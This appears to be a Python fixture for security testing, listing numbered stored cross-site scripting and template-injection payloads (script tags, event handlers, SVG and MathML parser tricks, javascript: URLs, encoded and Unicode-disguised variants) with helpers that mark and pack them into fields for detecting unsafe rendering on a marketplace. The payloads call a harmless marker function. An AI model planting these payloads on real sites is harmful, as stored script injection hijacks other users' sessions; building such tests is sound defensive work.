"""What somebody would store so that it runs when another person looks: scripts in every disguise, each with its number."""

from __future__ import annotations

WHOLE = (
    "<script>hit(@)</script>",
    "<ScRiPt >hit(@)</sCrIpT >",
    '"><script>hit(@)</script>',
    "'><script>alert(@)</script>",
    "</title><script>hit(@)</script>",
    "</textarea><script>hit(@)</script>",
    "</p></dd></dl><script>hit(@)</script>",
    "</script><script>hit(@)</script>",
    "--><script>hit(@)</script>",
    "]]><script>hit(@)</script>",
    "<img src=x onerror=hit(@)>",
    '"><img src=x onerror=hit(@)>',
    "'><img src=x onerror=alert(@)>",
    "`><img src=x onerror=hit(@)>",
    "<img src=`x`onerror=hit(@)>",
    "<img\tsrc=x\tonerror=hit(@)>",
    "<img/src=x/onerror=hit(@)>",
    "<IMG SRC=x ONERROR=&#104;it(@)>",
    "<img src=x onerror=&#x68;&#x69;&#x74;(@)>",
    "<img srcset=x onerror=hit(@)>",
    "<image src=x onerror=hit(@)>",
    "</title><img src=x onerror=hit(@)>",
    "</option></select><img src=x onerror=hit(@)>",
    "<svg onload=hit(@)>",
    "<svg/onload=hit(@)>",
    '"><svg/onload=hit(@)>',
    "<svg><script>hit(@)</script></svg>",
    "<svg><script href=data:,hit(@) />",
    "<svg><a xlink:href=javascript:hit(@)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=hit(@) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=hit(@)>",
    "<svg><style><img src=x onerror=hit(@)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit(@)&gt;'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=hit(@)></math>",
    "<noscript><p title='</noscript><img src=x onerror=hit(@)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(@)>",
    "<template><img src=x onerror=hit(@)></template>",
    "<body onload=hit(@)>",
    "<body onpageshow=hit(@)>",
    "<input autofocus onfocus=hit(@)>",
    '" autofocus onfocus="hit(@)',
    "' autofocus onfocus='hit(@)",
    '" onmouseover="hit(@)" x="',
    "x onpointerenter=hit(@) y",
    "<select autofocus onfocus=hit(@)>",
    "<details open ontoggle=hit(@)>",
    "<marquee onstart=hit(@)>",
    "<video><source onerror=hit(@)></video>",
    "<audio src=x onerror=hit(@)>",
    "<object data=x onerror=hit(@)></object>",
    "<object data=data:text/html,<script>parent.hit(@)</script>></object>",
    "<embed src=data:text/html,<script>parent.hit(@)</script>>",
    "<iframe srcdoc='<script>parent.hit(@)</script>'></iframe>",
    "<iframe src=javascript:parent.hit(@)></iframe>",
    "<iframe onload=hit(@)></iframe>",
    "<a href=javascript:hit(@)>x</a>",
    "<a href='java\tscript:hit(@)'>x</a>",
    "javascript:hit(@)",
    "JaVaScRiPt:hit(@)//http://x",
    "data:text/html,<script>hit(@)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoQCk8L3NjcmlwdD4=#hit(@)",
    "<form action=javascript:hit(@)><button>x</button></form>",
    "<button formaction=javascript:hit(@)>x</button>",
    "<base href=//elsewhere.invalid/@/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(@)'>",
    "<link rel=stylesheet href=//elsewhere.invalid/@.css onerror=hit(@)>",
    "<style>@import '//elsewhere.invalid/x.css';*{background:red}</style><b @>",
    "<p style=animation-name:x onanimationstart=hit(@)>",
    '" style="background:url(javascript:hit(@))',
    "';hit(@);//",
    '";hit(@);//',
    "'-hit(@)-'",
    "${hit(@)}",
    "`${hit(@)}`",
    "\\u003cscript\\u003ehit(@)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=hit(@)\\x3e",
    "%3Cscript%3Ehit(@)%3C/script%3E",
    "&lt;script&gt;hit(@)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit(@)&amp;gt;",
    "＜script＞hit(@)＜/script＞",
    "+ADw-script+AD4-hit(@)+ADw-/script+AD4-",
    "{{7391*7391}}@",
    "{% debug %}{% load static %}{{ request.session }}@",
    "{{ ''|add:'<script>hit(@)</script>'|safe }}",
    "{7391} {} {0.__class__} {name!r} {limit} %s %(x)s %n @",
    "#{7391*7391}<%= 7391*7391 %>@",
    "[x](javascript:hit(@))",
    "![x](x\"onerror=hit(@)) <javascript:hit(@)>",
    "\u202egpj.tpircs\u202c<img src=x onerror=hit(@)>",
    "\u2066<svg onload=hit(@)>\u2069",
    "<s\u200bcript>hit(@)</s\u200bcript>",
    "<scr\u0131pt>hit(@)</scr\u0131pt>",
    "\u0001\u000b<img\u000csrc=x\u000conerror=hit(@)>",
    "#panic(hit(@)) #eval(\"x\") $x^@$ *x* @label",
)  # fmt: skip
"""Each may hide what comes after it from nobody."""

SWALLOWING = (
    "<!--<img src='--><img src=x onerror=hit(@)>//",
    "<textarea><img title='</textarea><img src=x onerror=hit(@)>",
    "<title><img title='</title><img src=x onerror=hit(@)>",
    "<style><img title='</style><img src=x onerror=hit(@)>",
    "<xmp><p title='</xmp><svg/onload=hit(@)>",
    "<plaintext onfocus=hit(@) tabindex=0 autofocus>",
)
"""Each of these would swallow what follows: they stand last."""

IN_REFERENCES = (
    "<svg/onload=hit(@)>",
    '"><svg/onload=hit(@)>',
    "'><svg/onload=hit(@)>",
    '"onfocus="hit(@)"autofocus="',
    "</title><svg/onload=hit(@)>",
    "{{7391*7391}}?a=1&b=%22#@",
)
"""What stays within 64 printable ASCII signs without a blank, as the marketplace's own identifiers do."""

EVERY = WHOLE + SWALLOWING
SQUARE = "54626881"
"""What stands on a page if somebody computed 7391 × 7391 there."""


def mark(number: int) -> str:
    """Return what shows that a payload stands on a page, whether it ran or not."""
    return f"zq{number}z"


def armed(number: int) -> str:
    """Return a payload with its own number in it, and its mark behind it."""
    return EVERY[number].replace("@", str(number)) + mark(number)


def chunks(most: int) -> list[str]:
    """Return all payloads in as few texts of at most `most` characters as their order allows."""
    found = [""]
    for number in range(len(EVERY)):
        payload = armed(number)
        if len(found[-1]) + len(payload) + 1 > most:
            found.append("")
        found[-1] += f" {payload}" if found[-1] else payload
    return found


def short(most: int) -> list[str]:
    """Return the payloads that a field of `most` characters can hold, each for itself."""
    return [payload for number in range(len(EVERY)) if len(payload := armed(number)) <= most]


def reference(number: int) -> str:
    """Return a payload that passes for an identifier; its number is told from those of the others by 1000 more."""
    return IN_REFERENCES[number % len(IN_REFERENCES)].replace("@", str(1_000 + number)) + f"-{number}"
